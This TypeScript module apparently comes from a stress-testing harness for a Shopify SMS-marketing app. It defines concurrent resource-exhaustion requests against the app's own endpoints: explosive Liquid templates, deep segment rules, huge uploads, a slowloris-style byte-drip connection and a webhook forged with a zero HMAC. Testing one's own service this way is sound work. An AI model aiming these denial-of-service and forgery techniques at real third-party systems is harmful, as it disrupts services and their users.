import { once } from "node:events";
import { connect } from "node:net";
import { Readable } from "node:stream";
import { Agent, request } from "undici";
import { sessionToken } from "./merchant.ts";
import type { AttackPlan } from "./plan.ts";

export interface Attack {
  name: string;
  /** How many go on at a time, and how long each rests between two. */
  atOnce: number;
  pauseMs: number;
  /** Resolves with the status of the answer. */
  attack(): Promise<number>;
}

/** The Shopify library answers 410 to what looks like a robot. */
const BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36";
const MB = 1024 ** 2;
const UPLOAD_MB = 20;
const ROW = "+12125550100,Ada,Lovelace,ada@example.com,yes\n";

const COSTLY = `${"{% for i in (1..1000) %}{% for j in (1..1000) %}x{% endfor %}{% endfor %}".repeat(3)} {{ link }}`;
const LONG = "{{ customer.first_name | default: 'you' | append: 'x' }} ".repeat(60);
const NO_GROUP = { type: "tags", match: "any", tags: ["none", "neither"] };
const SPEND = { type: "spend", of: "total", is: "at-least", amount: 1, period: null };
const TEXTED = { type: "texted", atLeast: 1, days: 30, withoutClick: true };
/** As deep and as wide as rules may be. */
const DEEP = JSON.stringify({
  type: "and",
  rules: Array.from({ length: 12 }, () => ({
    type: "or",
    rules: [{ type: "not", rule: { type: "and", rules: [NO_GROUP, SPEND, TEXTED] } }],
  })),
});

/** Everything that a shop's merchant, shoppers and strangers can ask that costs. */
export function attacksOf({ url, domain, senderId, linkCode }: AttackPlan): Attack[] {
  const dispatcher = new Agent({ connections: 512, headersTimeout: 120_000, bodyTimeout: 120_000 });

  async function ask(path: string, body?: string | Readable, headers: Record<string, string> = {}) {
    const answer = await request(`${url}${path}`, {
      dispatcher,
      method: body === undefined ? "GET" : "POST",
      ...(body !== undefined && { body }),
      headers,
    });
    await answer.body.dump({ limit: 1024 * MB });
    return answer.statusCode;
  }
  const merchant = () => ({ "user-agent": BROWSER, authorization: `Bearer ${sessionToken(domain)}` });
  const form = (path: string, fields: Record<string, string>) =>
    ask(path, new URLSearchParams(fields).toString(), {
      ...merchant(),
      "content-type": "application/x-www-form-urlencoded",
    });
  const campaign = (body: string) => ({
    ...{ name: "Worst", body, linkUrl: "https://example.com/", audience: "all", tag: "", senderId },
    ...{ when: "now", date: "", time: "" },
  });

  return [
    { name: "estimate", atOnce: 6, pauseMs: 0, attack: () => form("/campaigns/estimate", campaign(LONG)) },
    { name: "costlyEstimate", atOnce: 6, pauseMs: 0, attack: () => form("/campaigns/estimate", campaign(COSTLY)) },
    { name: "save", atOnce: 4, pauseMs: 0, attack: () => form("/campaigns/new.data", campaign(COSTLY)) },
    { name: "export", atOnce: 60, pauseMs: 100, attack: () => ask("/subscribers/export/file", undefined, merchant()) },
    {
      ...{ name: "upload", atOnce: 2, pauseMs: 0 },
      attack: () =>
        ask("/subscribers/import/upload?kind=subscribers&name=worst.csv", Readable.from(aLargeFile()), merchant()),
    },
    { name: "segment", atOnce: 10, pauseMs: 0, attack: () => form("/segments/preview", { ask: "count", rules: DEEP }) },
    {
      name: "search",
      atOnce: 10,
      pauseMs: 0,
      attack: () => ask("/segments/people?search=a%25e_", undefined, merchant()),
    },
    { name: "list", atOnce: 6, pauseMs: 0, attack: () => ask("/subscribers.data?search=zz", undefined, merchant()) },
    { name: "endlessBody", atOnce: 100, pauseMs: 100, attack: () => neverEnd(url) },
    {
      ...{ name: "forgedWebhook", atOnce: 16, pauseMs: 5 },
      attack: () =>
        ask("/webhooks", JSON.stringify({ id: 1, note: "x".repeat(2_000) }), {
          ...{ "x-shopify-hmac-sha256": Buffer.alloc(32).toString("base64"), "x-shopify-topic": "orders/create" },
          "x-shopify-shop-domain": domain,
        }),
    },
    { name: "click", atOnce: 10, pauseMs: 50, attack: () => ask(`/l/${linkCode}`) },
  ];
}

async function* aLargeFile(): AsyncGenerator<Buffer> {
  yield Buffer.from("Phone,First Name,Last Name,Email,Accepts SMS Marketing\n");
  const piece = Buffer.from(ROW.repeat(Math.ceil(MB / ROW.length)));
  for (let sent = 0; sent < UPLOAD_MB; sent += 1) yield piece;
}

/** Sends the head of a webhook, a piece of its body, and then a byte at a time until it is cut off. */
async function neverEnd(url: string): Promise<number> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  let answer = "";
  socket.on("data", (piece) => {
    answer += piece;
  });
  socket.on("error", () => {}); // "close" follows
  socket.write("POST /webhooks HTTP/1.1\r\nHost: x\r\nX-Shopify-Hmac-Sha256: AAAA\r\nContent-Length: 1000000\r\n\r\n");
  socket.write(Buffer.alloc(64 * 1024, "x"));
  const drip = setInterval(() => socket.writable && socket.write("x"), 500);
  await once(socket, "close");
  clearInterval(drip);
  return Number(answer.slice(9, 12));
}
